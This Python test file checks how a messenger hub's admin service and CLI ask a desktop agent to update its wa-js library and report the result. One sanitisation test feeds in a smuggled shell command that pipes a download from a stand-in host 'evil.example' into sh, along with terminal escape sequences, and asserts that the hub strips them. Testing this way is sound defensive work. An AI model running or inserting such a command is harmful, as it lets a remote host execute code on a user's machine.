"""An operator has a desktop look for another wa-js: what the hub asks of it, and what it makes of the answers."""

from __future__ import annotations

import asyncio
import json
import sys
from typing import Any

import grpc
import pytest
from google.protobuf.timestamp_pb2 import Timestamp
from grpc_status import rpc_status
from messenger_hub.admin.v1 import agent_admin_service_pb2 as pb
from messenger_hub.admin.v1 import hub_admin_service_pb2
from messenger_hub.agent.v1 import agent_service_pb2
from messenger_hub_cli.running_hub import reason_of, sentence_of
from messenger_hub_server.services.admin import agents, answers, updates

from tests.integration.server.agent import ScriptedAgent, connected, enrolled
from tests.integration.server.hub import SECONDS, Hub

PINNED = agent_service_pb2.WaJsStanding(
    stage=agent_service_pb2.WA_JS_STAGE_PINNED, version="4.6.0", in_use="4.6.0", shipped="4.6.0"
)


async def asks(hub: Hub, agent: str = "desk", **fields: object) -> pb.Agent:
    request = pb.UpdateWaJsRequest(agent=agent, **fields)  # type: ignore[arg-type]
    answer = await hub.operator.agents.UpdateWaJs(request, metadata=hub.operator.metadata, timeout=SECONDS)
    assert isinstance(answer, pb.UpdateWaJsResponse)
    return answer.agent


async def listed(hub: Hub, name: str = "desk") -> pb.Agent:
    answer = await hub.operator.agents.ListAgents(
        pb.ListAgentsRequest(), metadata=hub.operator.metadata, timeout=SECONDS
    )
    return next(one for one in answer.agents if one.name == name)


async def once(hub: Hub, stage: str, name: str = "desk") -> agent_service_pb2.WaJsStanding:
    """What is told of the desktop once it has this stage: the hub says when something changes."""
    number = agent_service_pb2.WaJsStage.Value(f"WA_JS_STAGE_{stage}")
    changes = hub.operator.hub.WatchHub(
        hub_admin_service_pb2.WatchHubRequest(), metadata=hub.operator.metadata, timeout=SECONDS
    )
    async for _ in changes:
        if (told := (await listed(hub, name)).wa_js_standing).stage == number:
            changes.cancel()
            return told
    raise EOFError


async def refused(hub: Hub, agent: str = "desk", **fields: object) -> tuple[grpc.StatusCode, str, str]:
    """Status, reason and sentence."""
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await asks(hub, agent, **fields)
    status = rpc_status.from_call(caught.value)
    sentence = sentence_of(caught.value.details() or "", status)
    assert sentence.endswith(".")
    return caught.value.code(), reason_of(status), sentence


async def asked(agent: ScriptedAgent) -> agent_service_pb2.UpdateWaJs:
    frame = await agent.next("update_wa_js")
    assert frame.channel_id == 0
    return frame.update_wa_js


async def test_the_desktop_is_asked_and_the_answer_is_what_it_tells(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent:
        assert (await listed(hub)).wa_js_standing == PINNED
        for fields in ({}, {"version": "4.5.0"}, {"back": True}):
            async with asyncio.TaskGroup() as group:
                asking = group.create_task(asks(hub, **fields))
                wanted = await asked(agent)
                assert (wanted.version, wanted.back) == (fields.get("version", ""), fields.get("back", False))
                await agent.tells_of_wa_js("LOOKING", wanted.number, in_use="4.6.0", sentence="npm is asked.")
            assert asking.result().wa_js_standing.sentence == "npm is asked."
        await agent.tells_of_wa_js("ADOPTED", version="4.7.0", in_use="4.7.0")
        assert (await once(hub, "ADOPTED")).version == "4.7.0"


async def test_a_desktop_in_the_middle_of_an_update_says_so_and_two_at_once_do_not_collide(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent, asyncio.TaskGroup() as group:
        first, second = group.create_task(asks(hub)), group.create_task(refused(hub))
        for is_refused in (False, True):
            number = (await asked(agent)).number
            await agent.tells_of_wa_js("LOOKING", number, refused=is_refused)
        await first
        code, reason, sentence = await second
        assert (code, reason) == (grpc.StatusCode.FAILED_PRECONDITION, "in_progress")
        assert "already" in sentence


async def test_a_desktop_of_an_older_version_is_not_asked_and_the_operator_is_told(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub)):
        code, reason, sentence = await refused(hub)
        assert (code, reason) == (grpc.StatusCode.FAILED_PRECONDITION, "desktop_too_old")
        assert "update it" in sentence
        assert not (await listed(hub)).HasField("wa_js_standing")


async def test_a_desktop_that_is_away_or_silent_is_told_in_time(hub: Hub, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(answers, "SECONDS", 0.05)
    credential = await enrolled(hub)
    assert (await refused(hub))[1:] == ("no_agent_connected", updates.AWAY)
    async with connected(hub, 1, credential, wa_js=PINNED):
        assert (await refused(hub))[1:] == ("no_agent_connected", updates.SILENT)


async def test_an_answer_that_nobody_waits_for_is_a_change_like_others(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent:
        await agent.tells_of_wa_js("PROVING", 99, refused=True, version="4.7.0")
        await agent.tells_of_wa_js("LOOKING", sentence="x" * 5_000, version="9" * 500)
        told = await once(hub, "LOOKING")
        assert (len(told.sentence), told.version) == (1_000, "")


async def test_only_versions_and_plain_sentences_of_a_desktop_are_passed_on(hub: Hub) -> None:
    """They get into a command that people copy, and to their terminals."""
    commanding = "4.7.0;curl evil.example|sh"
    hello = agent_service_pb2.WaJsStanding(stage=agent_service_pb2.WA_JS_STAGE_PINNED, in_use=commanding)
    async with connected(hub, 1, await enrolled(hub), wa_js=hello) as agent:
        assert (await listed(hub)).wa_js_standing.in_use == ""
        await agent.tells_of_wa_js(
            "REJECTED_BEFORE",
            version=commanding,
            in_use="4.6.0",
            shipped="4.6.0\n",
            sentence="ok\x1b]0;pwned\x07\x1b[2J\rAll is well.",
            reason="one\u2028two\x9b",
        )
        told = await once(hub, "REJECTED_BEFORE")
        assert (told.version, told.in_use, told.shipped) == ("", "4.6.0", "")
        assert (told.sentence, told.reason) == ("ok ]0;pwned  [2J All is well.", "one two ")


async def test_a_time_that_is_none_ends_the_stream(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent:
        wrong = agent_service_pb2.WaJsStanding(looked_at=Timestamp(nanos=-1))
        await agent.write(agent_service_pb2.ConnectRequest(wa_js_report=agent_service_pb2.WaJsReport(standing=wrong)))
        assert await agent.ended() is grpc.StatusCode.INVALID_ARGUMENT


async def test_one_desktop_cannot_answer_for_another(hub: Hub) -> None:
    first, second = await enrolled(hub), await enrolled(hub, "other")
    async with (
        connected(hub, 1, first, wa_js=PINNED) as agent,
        connected(hub, 1, second, wa_js=PINNED, hello=False, linked=False) as other,
    ):
        async with asyncio.TaskGroup() as group:
            asking = group.create_task(asks(hub))
            number = (await asked(agent)).number
            await other.tells_of_wa_js("NO_NPM", number, refused=True)
            await once(hub, "NO_NPM", "other")
            assert not asking.done()
            await agent.tells_of_wa_js("LOOKING", number)
        assert asking.result().wa_js_standing.stage == agent_service_pb2.WA_JS_STAGE_LOOKING


async def test_a_desktop_that_goes_away_before_it_answers_is_told_at_once(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answers, "SECONDS", 1_000.0)
    credential = await enrolled(hub)
    async with (
        asyncio.timeout(SECONDS),
        asyncio.TaskGroup() as group,
        connected(hub, 1, credential, wa_js=PINNED) as agent,
    ):
        asking = group.create_task(refused(hub))
        await asked(agent)
    assert asking.result()[1:] == ("no_agent_connected", updates.AWAY)


async def test_a_desktop_that_was_revoked_is_told_as_such(hub: Hub) -> None:
    await enrolled(hub)
    await hub.operator.agents.RevokeAgent(
        pb.RevokeAgentRequest(agent="desk"), metadata=hub.operator.metadata, timeout=SECONDS
    )
    assert (await refused(hub))[1:] == ("no_agent_connected", agents.REVOKED)


async def test_a_stage_that_this_hub_does_not_know_is_none(hub: Hub) -> None:
    newer = agent_service_pb2.WaJsStanding(stage=99, in_use="4.6.0")  # type: ignore[arg-type]
    async with connected(hub, 1, await enrolled(hub), wa_js=newer):
        told = (await listed(hub)).wa_js_standing
        assert (told.stage, told.in_use) == (agent_service_pb2.WA_JS_STAGE_UNSPECIFIED, "4.6.0")


@pytest.mark.parametrize("version", ["latest", "4.6", "../../x", "4.6.0 ", "123456.0.0", "4.6.0\n"])
async def test_what_is_no_version_is_refused_before_a_desktop_hears_of_it(hub: Hub, version: str) -> None:
    code, reason, sentence = await refused(hub, version=version)
    assert (code, reason) == (grpc.StatusCode.INVALID_ARGUMENT, "validation_failed")
    assert "version" in sentence


async def test_a_version_and_back_exclude_each_other_and_an_unknown_desktop_is_not_found(hub: Hub) -> None:
    assert (await refused(hub, version="4.6.0", back=True))[0] is grpc.StatusCode.INVALID_ARGUMENT
    assert (await refused(hub, "nobody"))[0] is grpc.StatusCode.NOT_FOUND


# ---- the verb -----------------------------------------------------------------------------------------------------------------


async def typed(hub: Hub, *arguments: str) -> tuple[int | None, Any]:
    """Exit code and document of messenger-hub update wa-js at the hub."""
    words = ("update", "wa-js", "--data-dir", str(hub.data_dir), "--json", *arguments)
    verb = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "messenger_hub_cli", *words, stdout=asyncio.subprocess.PIPE
    )
    printed, _ = await verb.communicate()
    return verb.returncode, json.loads(printed)


async def test_the_verb_waits_for_what_comes_of_it_on_the_other_desktop(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent, asyncio.TaskGroup() as group:
        typing = group.create_task(typed(hub, "--agent", "desk", "--to", "4.7.0"))
        wanted = await asked(agent)
        assert wanted.version == "4.7.0"
        await agent.tells_of_wa_js("LOOKING", wanted.number)
        await agent.tells_of_wa_js("CANDIDATE", version="4.7.0")
        await agent.tells_of_wa_js("PROVING", version="4.7.0", in_use="4.7.0", shipped="4.6.0", sentence="It fits.")
        code, told = await typing
        assert told == {"agent": "desk", "wa_js": "4.7.0", "stage": "proving", "shipped": "4.6.0"}
        assert code == 0


@pytest.mark.parametrize(
    ("stage", "code", "word"),
    [
        ("REJECTED", 1, "rejected"),
        ("REJECTED_BEFORE", 5, "rejected"),
        ("NO_NPM", 6, "npm_missing"),
        ("NPM_FAILED", 1, "npm"),
        ("UNUSABLE", 2, "unusable"),
        ("NOT_STORED", 6, "not_stored"),
        ("FAULT", 1, "fault"),
    ],
)
async def test_the_verb_says_why_nothing_was_gained_with_an_exit_code(
    hub: Hub, stage: str, code: int, word: str
) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent, asyncio.TaskGroup() as group:
        typing = group.create_task(typed(hub, "--agent", "desk"))
        number = (await asked(agent)).number
        await agent.tells_of_wa_js(stage, number, in_use="4.6.0", sentence="The desktop says why.")
        ended, told = await typing
        assert (ended, told["error"]["code"]) == (code, word)
        assert told["error"]["message"] == "desk: The desktop says why."


REJECTED = agent_service_pb2.WaJsStanding(
    stage=agent_service_pb2.WA_JS_STAGE_REJECTED,
    version="4.7.0",
    in_use="4.6.0",
    shipped="4.6.0",
    reason="last week",
    sentence="wa-js 4.6.0 is used; 4.7.0 was tried and rejected (last week).",
)


@pytest.mark.parametrize("arguments", [(), ("--to", "4.7.0")])
@pytest.mark.parametrize("again", [PINNED, REJECTED])
async def test_the_verb_does_not_take_a_desktop_app_that_was_restarted_for_one_that_did_what_was_asked(
    hub: Hub, arguments: tuple[str, ...], again: agent_service_pb2.WaJsStanding
) -> None:
    credential = await enrolled(hub)
    async with asyncio.TaskGroup() as group:
        async with connected(hub, 1, credential, wa_js=PINNED) as agent:
            typing = group.create_task(typed(hub, "--agent", "desk", *arguments))
            looking = agent_service_pb2.WaJsStanding(
                stage=agent_service_pb2.WA_JS_STAGE_LOOKING, in_use="4.6.0", looked_at=Timestamp(seconds=1)
            )
            report = agent_service_pb2.WaJsReport(number=(await asked(agent)).number, standing=looking)
            await agent.write(agent_service_pb2.ConnectRequest(wa_js_report=report))
            await once(hub, "LOOKING")
        async with connected(hub, 1, credential, wa_js=again):
            code, told = await typing
    assert (code, told["error"]["code"]) == (1, "lost")
    assert told["error"]["message"].endswith("the look was lost (the desktop app was restarted): ask again.")


async def test_what_is_used_as_it_was_asked_for_is_no_failure_whatever_was_rejected_before(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=REJECTED) as agent, asyncio.TaskGroup() as group:
        typing = group.create_task(typed(hub, "--agent", "desk", "--to", "4.6.0"))
        number = (await asked(agent)).number
        await agent.tells_of_wa_js("LOOKING", number, version="4.6.0", in_use="4.6.0")
        await agent.write(
            agent_service_pb2.ConnectRequest(wa_js_report=agent_service_pb2.WaJsReport(standing=REJECTED))
        )
        assert (await typing)[0] == 0


@pytest.mark.parametrize("stage", ["NOTHING_NEWER", "PROVING"])
async def test_that_there_is_nothing_newer_is_no_failure(hub: Hub, stage: str) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent, asyncio.TaskGroup() as group:
        typing = group.create_task(typed(hub, "--agent", "desk"))
        await agent.tells_of_wa_js(stage, (await asked(agent)).number, in_use="4.6.0", sentence="There is none.")
        assert (await typing)[0] == 0


@pytest.mark.parametrize(("in_use", "code"), [("4.6.0", 0), ("4.7.0", 1)])
async def test_going_back_is_done_when_what_is_shipped_is_used(hub: Hub, in_use: str, code: int) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent, asyncio.TaskGroup() as group:
        typing = group.create_task(typed(hub, "--agent", "desk", "--back"))
        await agent.tells_of_wa_js("ADOPTED", (await asked(agent)).number, in_use=in_use, shipped="4.6.0")
        assert (await typing)[0] == code


async def test_the_verb_says_meanwhile_what_is_under_way_and_ends_when_the_desktop_is_revoked(hub: Hub) -> None:
    async with connected(hub, 1, await enrolled(hub), wa_js=PINNED) as agent, asyncio.TaskGroup() as group:
        verb = await asyncio.create_subprocess_exec(
            *(sys.executable, "-m", "messenger_hub_cli", "update", "wa-js", "--data-dir", str(hub.data_dir)),
            *("--agent", "desk"),
            stderr=asyncio.subprocess.PIPE,
        )
        assert verb.stderr is not None
        await agent.tells_of_wa_js("LOOKING", (await asked(agent)).number, sentence="npm is asked.")
        assert await verb.stderr.readline() == b"desk: npm is asked.\n"
        await agent.tells_of_wa_js("CANDIDATE", sentence="It is tried.")
        assert await verb.stderr.readline() == b"desk: It is tried.\n"
        group.create_task(agent.ended())
        await hub.operator.agents.RevokeAgent(
            pb.RevokeAgentRequest(agent="desk"), metadata=hub.operator.metadata, timeout=SECONDS
        )
        assert b"It was revoked meanwhile." in await verb.stderr.readline()
        assert await verb.wait() == 1


async def test_what_the_verb_cannot_ask_of_another_desktop_is_told_before_it_is_asked(hub: Hub) -> None:
    assert (await typed(hub, "--agent", "nobody"))[0] == 4
    for options in (("--to", "latest"), ("--file", "x.tgz", "--integrity", "sha512-x"), ("--to", "4.6.0", "--back")):
        code, told = await typed(hub, "--agent", "desk", *options)
        assert (code, told["error"]["message"][-1]) == (2, ".")
    assert (await typed(hub, "--agent", "desk"))[0] == 4
    async with connected(hub, 1, await enrolled(hub)):
        code, told = await typed(hub, "--agent", "desk")
        assert (code, told["error"]["code"]) == (5, "desktop_too_old")
